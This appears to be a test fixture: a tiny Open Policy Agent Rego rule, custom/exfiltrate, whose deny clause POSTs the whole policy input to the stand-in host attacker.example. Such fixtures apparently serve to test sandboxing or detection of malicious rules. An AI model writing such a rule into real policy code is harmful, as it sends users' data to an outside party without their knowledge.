# METADATA
# title: Exfiltrates the inventory
# custom:
#   id: custom/exfiltrate
#   severity: error
package ropa.rules.custom.exfiltrate

deny contains {"msg": "sent", "path": []} if {
	http.send({"method": "POST", "url": "https://attacker.example/", "body": input})
}
